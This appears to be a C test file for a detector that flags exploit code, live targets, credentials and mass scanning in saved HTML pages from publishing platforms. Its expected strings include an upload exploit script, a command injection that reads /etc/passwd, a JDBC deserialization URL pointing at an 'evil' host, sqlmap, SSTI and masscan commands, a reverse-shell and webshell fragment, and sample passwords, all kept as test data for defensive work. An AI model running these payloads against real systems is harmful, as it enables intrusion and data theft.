/*
 * Saved pages of real publishing platforms (tests/check/data/html/: our own
 * text in each platform's markup): what `embargo check` finds in the
 * article, that the page chrome around it (hot posts, related articles,
 * comments, sidebars with hype titles and addresses) gives no finding, and
 * that code blocks read without their line-number gutters.
 */
#include "t.h"
#include "corpus_util.h"

#define DIR "tests/check/data/html"

struct page {
    const char *file;
    const char *verdict;
    const char
        *want[4]; /* "family@snippet": a finding of the family on a source line holding snippet */
    const char *quiet[5]; /* no finding on a source line holding one of these */
    const char *code;     /* one code block's text, exactly (NULL: not checked) */
    const char *headline; /* the first block, a heading (NULL: not checked) */
};

static const struct page pages[] = {
    { "csdn.html",
      "block",
      { "search_dork@app=\"青禾-OA\"", "exploit_code@import argparse" },
      { "核弹级漏洞来袭", "47.104.23.88", "120.26.9.14", "全网沦陷", "出售0day" },
      "import argparse\nimport requests\n\ndef upload(target):\n"
      "    files = {\"file\": (\"x.jsp\", \"<% out.println(1); %>\")}\n"
      "    r = requests.post(target + \"/qinghe/upload\", files=files, timeout=10)\n"
      "    print(r.status_code, r.text)\n\nif __name__ == \"__main__\":\n"
      "    p = argparse.ArgumentParser()\n    p.add_argument(\"-u\", \"--url\", required=True)\n"
      "    upload(p.parse_args().url)",
      "青禾 OA 文件上传漏洞复现" },
    { "cnblogs.html",
      "block",
      { "exploit_code@ 1</span> POST /admin/diag/ping", "live_target@Host: 116.62.41.207" },
      { "神洞！", "39.106.7.21", "史上最强", "101.37.20.9" },
      "POST /admin/diag/ping HTTP/1.1\nHost: 116.62.41.207\n"
      "Content-Type: application/x-www-form-urlencoded\n\nhost=127.0.0.1;cat /etc/passwd",
      "记一次星河 CMS 后台命令执行的排查" },
    { "xz-topic.html",
      "block",
      { "exploit_code@curl --path-as-is", "live_target@114.55.87.162" },
      { "通杀！", "121.199.8.34", "星球自取" },
      NULL,
      "浅析某开源网关的路径穿越" },
    { "xz-codemirror.html",
      "block",
      { "exploit_code@class=\"cm-content\"", "mass_scanner@ThreadPoolExecutor(50)" },
      { "史诗级漏洞", "58.87.6.15", "cm-gutterElement" },
      "import requests, sys\nfrom concurrent.futures import ThreadPoolExecutor\n\ndef check(url):\n"
      "    r = requests.post(url + \"/bi/datasource/test\", json={\"url\": "
      "\"jdbc:mysql://evil/x?autoDeserialize=true\"})\n    print(url, r.status_code)\n\n"
      "ThreadPoolExecutor(50).map(check, open(sys.argv[1]).read().split())",
      NULL },
    { "freebuf.html", "pass", { NULL }, { NULL }, NULL, NULL },
    { "seebug.html", "pass", { NULL }, { NULL }, NULL, NULL },
    { "zhihu.html",
      "block",
      { "exploit_code@nuclei</span> -u", "live_target@122.114.66.40" },
      { "124.70.5.19", "核弹级", "星球自取" },
      "nuclei -u https://122.114.66.40:8443 -t camera-snapshot-unauth.yaml",
      NULL },
    { "juejin.html",
      "pass",
      { NULL },
      { NULL },
      "from flask_wtf.csrf import CSRFProtect\n\ncsrf = CSRFProtect(app)",
      "给 Flask 应用加上 CSRF 防护" },
    { "jianshu.html",
      "warn",
      { "hype@【核弹级】某路由器 RCE 分析</h1>" },
      { "通杀所有版本", "114.55.3.2" },
      NULL,
      "【核弹级】某路由器 RCE 分析" },
    { "segmentfault.html",
      "block",
      { "search_dork@title=\"星盾面板\"", "credential@admin / Xd@2023" },
      { "全网沦陷", "59.110.91.45", "史上最严重" },
      NULL,
      NULL },
    { "github-readme.html",
      "block",
      { "exploit_code@python3 exp.py", "live_target@139.224.10.77" },
      { "47.108.1.20", "most dangerous controller bug" },
      "python3 exp.py -u https://139.224.10.77:9443 --cmd id",
      NULL },
    { "github-advisory.html", "pass", { NULL }, { NULL }, NULL, "Path traversal in quarry-static" },
    { "github-blob.html",
      "block",
      { "exploit_code@id=\"LC1\"" },
      { "data-line-number" },
      "import argparse\nimport requests\nap = argparse.ArgumentParser()\n"
      "ap.add_argument(\"-u\", dest=\"url\")\na = ap.parse_args()\n"
      "r = requests.post(a.url + \"/api/v2/session/restore\", json={\"user\": \"admin\", "
      "\"token\": \"../../\"}, verify=False)\n    print(r.text)",
      NULL },
    { "medium.html",
      "warn",
      { "hype@The Worst Router Bug of the Decade</h1>" },
      { "Mother of all", "81.70.2.11" },
      "# check your firmware version\ncurl -s http://192.168.1.1/status.json | jq .firmware",
      NULL },
    { "wordpress.html",
      "pass",
      { NULL },
      { NULL },
      NULL,
      "Security advisory: stored XSS in Calendarly 2.3" },
    { "ghost.html",
      "block",
      { "exploit_code@/dev/tcp/121.43.9.200", "live_target@/dev/tcp/121.43.9.200" },
      { "Internet is on fire", "60.205.1.3" },
      NULL,
      "Getting a shell on the Hollis print server" },
    { "hugo.html",
      "block",
      { "exploit_code@sqlmap -u", "live_target@61.135.20.8" },
      { "核弹级", "101.36.1.9", "class=\"lnt\"" },
      "sqlmap -u \"http://61.135.20.8/gov/search?id=1\" --batch --dbs\n"
      "sqlmap -u \"http://61.135.20.8/gov/search?id=1\" -D gov --tables",
      "某政务系统 SQL 注入复现" },
    { "hexo.html",
      "block",
      { "exploit_code@curl -s", "live_target@58.220.17.36" },
      { "核弹级", "一键 getshell" },
      "curl -s \"http://58.220.17.36/cms/render?tpl=%7B%7B7*7%7D%7D\"\n"
      "curl -s http://58.220.17.36/cms/render -d 'tpl={{config}}'",
      "某 CMS 模板注入复现" },
    { "telegram.html",
      "block",
      { "live_target@81.92.203.14" },
      { "Download Telegram" },
      NULL,
      NULL },
    { "table-logins.html",
      "block",
      { "credential@mj2019pass", "credential@Op#77318x" },
      { "管理员口令，至少 12 位" },
      NULL,
      NULL },
    { "jekyll.html",
      "block",
      { "mass_scanner@masscan 0.0.0.0/0" },
      { "most devastating", "class=\"lineno\"" },
      "masscan 0.0.0.0/0 -p6379 --rate 100000 -oL redis.txt\nwc -l redis.txt",
      "Finding exposed Redis with masscan" },
    { "hackerone.html", "pass", { NULL }, { NULL }, NULL, "IDOR on invoice export" },
    { "exploitdb.html",
      "block",
      { "exploit_code@# Exploit Title", "webshell@system($_GET" },
      { NULL },
      NULL,
      "Briar CMS 4.1 - Remote Code Execution (Authenticated)" },
    { "wechat-repost.html",
      "warn",
      { "hype@id=\"activity-name\"" },
      { "218.17.4.9" },
      NULL,
      "【神洞】某安全网关 0day 通杀，附检测方法" },
    { "generic-sidebar-clean.html", "pass", { NULL }, { NULL }, NULL, NULL },
    /* Review cases: real article text the pick dropped (a gate prefers a false alarm). */
    /* A platform's container name on a sidebar teaser is not the article (a share of the text). */
    { "review-teaser-container.html",
      "block",
      { "credential@password: Qw7", "live_target@45.33.32.156:8080/acme" },
      { NULL },
      NULL,
      NULL },
    /* Heading ids (login-bypass, next-steps) are sections; a slug id with links is chrome. */
    { "review-heading-ids.html",
      "block",
      { "credential@with password: Qw7", "live_target@45.33.32.158" },
      { "139.224.7.21", "139.224.7.22" },
      NULL,
      NULL },
    /* A layout "row gutter" is read; a code block's number column is not. */
    { "review-row-gutter.html",
      "block",
      { "credential@with password: Qw7", "live_target@Send it to http://45.33.32.156" },
      { "class=\"lnt\"" },
      "curl -s http://45.33.32.157:8080/acme/htmlofficeservlet",
      NULL },
    /* A short sibling of the article with a heading and list items is not left by the descent. */
    { "review-link-sibling.html",
      "block",
      { "credential@admin / Qw7", "live_target@45.33.32.156:8080/acme" },
      { NULL },
      NULL,
      NULL },
    /* An <aside> note with a paragraph is read; a link-only aside and footer are not. */
    { "review-aside-note.html",
      "block",
      { "credential@password: Qw7", "live_target@45.33.32.156:8080/</p></aside>" },
      { "139.224.7.23", "139.224.7.24" },
      NULL,
      NULL },
    /* A gutter's class on text with words is text; a column of line numbers is not. */
    { "review-gutter-words.html",
      "block",
      { "credential@with password: Bk9", "live_target@45.33.32.159:5000" },
      { NULL },
      "tar czf /tmp/share.tgz /srv/share\nls -l /tmp",
      NULL },
    /* Section classes (login-bypass, next-steps) are read; a share bar and hot-posts links not. */
    { "review-section-classes.html",
      "block",
      { "credential@password: Rq5", "live_target@45.33.32.160:8443", "live_target@45.33.32.161" },
      { "139.224.7.25", "139.224.7.26", "核弹级" },
      NULL,
      NULL },
    /* A summary in a platform's container: the full text beside it is read, the sidebar not. */
    { "review-summary-box.html",
      "block",
      { "credential@password: Lk3", "live_target@45.33.32.162/cgi-bin" },
      { "139.224.7.27", "核弹级" },
      NULL,
      "Larkspur router diagnostics injection" },
    /* Two posts on one page: the second <article> is read too. */
    { "review-two-posts.html",
      "block",
      { "credential@password: Fn6", "live_target@45.33.32.163:9000" },
      { "139.224.7.28", "史诗级" },
      NULL,
      NULL },
    /* A paragraph after <main> that is not chrome is read; the link-only footer is not. */
    { "review-after-main.html",
      "block",
      { "credential@password: Fh8", "live_target@45.33.32.164:8080" },
      { NULL },
      NULL,
      NULL },
};

/* Does the source line holding byte @a off contain @a snip? */
static bool
line_has(const struct emb_doc *d, size_t off, const char *snip)
{
    size_t a = off, e = off, n = strlen(snip);

    while (a > 0 && d->src[a - 1] != '\n')
        a--;
    while (e < d->src_len && d->src[e] != '\n')
        e++;
    return e - a >= n && memmem(d->src + a, e - a, snip, n) != NULL;
}

static bool
has_code(const struct emb_doc *d, const char *code)
{
    for (size_t i = 0; i < d->nblocks; i++) {
        const struct emb_doc_block *b = &d->blocks[i];
        if (b->kind == EMB_BLOCK_CODE && b->end - b->start == strlen(code) &&
            memcmp(d->text + b->start, code, strlen(code)) == 0)
            return true;
    }
    return false;
}

static int
check_page(struct cu_engine *e, const struct page *pg)
{
    struct emb_buf buf;
    struct emb_doc d;
    struct emb_doc_err derr;
    struct emb_doc_opts o = { .kind = -1 };
    struct emb_check_report rep = { 0 };
    int bad = 0;

    if (cu_read(DIR, pg->file, &buf) != 0) {
        printf("%s: unreadable\n", pg->file);
        return 1;
    }
    T_EQ_INT(emb_doc_load(pg->file, buf.data, buf.len, &o, &d, &derr), EMB_OK);
    T_EQ_INT(d.kind, EMB_DOC_HTML);
    T_EQ_INT(emb_check_scan(e->chk, e->scr, &d, &rep), EMB_OK);
    emb_check_suppress(&rep, &d, pg->file, NULL);
    if (strcmp(cu_verdict(emb_check_verdict(&rep)), pg->verdict) != 0) {
        printf("%s: verdict %s, want %s\n", pg->file, cu_verdict(emb_check_verdict(&rep)),
               pg->verdict);
        bad++;
    }
    for (size_t w = 0; w < 4 && pg->want[w]; w++) {
        const char *at = strchr(pg->want[w], '@');
        bool found = false;
        for (size_t i = 0; i < rep.n && !found; i++) {
            const char *fam = emb_check_family_name(rep.f[i].rule->family);
            found = !rep.f[i].suppressed && strlen(fam) == (size_t)(at - pg->want[w]) &&
                    strncmp(fam, pg->want[w], strlen(fam)) == 0 &&
                    line_has(&d, rep.f[i].start, at + 1);
        }
        if (!found) {
            printf("%s: no finding %s\n", pg->file, pg->want[w]);
            bad++;
        }
    }
    for (size_t i = 0; i < rep.n; i++)
        for (size_t q = 0; q < 5 && pg->quiet[q]; q++)
            if (line_has(&d, rep.f[i].start, pg->quiet[q])) {
                printf("%s:%u: finding %s on a chrome line (%s)\n", pg->file, rep.f[i].line,
                       rep.f[i].rule->id, pg->quiet[q]);
                bad++;
            }
    if (pg->code && !has_code(&d, pg->code)) {
        printf("%s: no code block reads\n%s\n", pg->file, pg->code);
        bad++;
    }
    if (pg->headline &&
        (d.nblocks == 0 || d.blocks[0].kind != EMB_BLOCK_HEADING ||
         d.blocks[0].end - d.blocks[0].start != strlen(pg->headline) ||
         memcmp(d.text + d.blocks[0].start, pg->headline, strlen(pg->headline)) != 0)) {
        printf("%s: the first block is not the headline %s\n", pg->file, pg->headline);
        bad++;
    }
    emb_check_report_free(&rep);
    emb_doc_free(&d);
    emb_buf_free(&buf);
    return bad;
}

static void
test_pages(void)
{
    struct cu_engine e;
    int bad = 0;

    T_OK(cu_engine_init(&e) == 0);
    for (size_t i = 0; i < sizeof pages / sizeof pages[0]; i++)
        bad += check_page(&e, &pages[i]);
    T_EQ_INT(bad, 0);
    cu_engine_free(&e);
}

int
main(void)
{
    T_RUN(test_pages);
    return T_DONE();
}
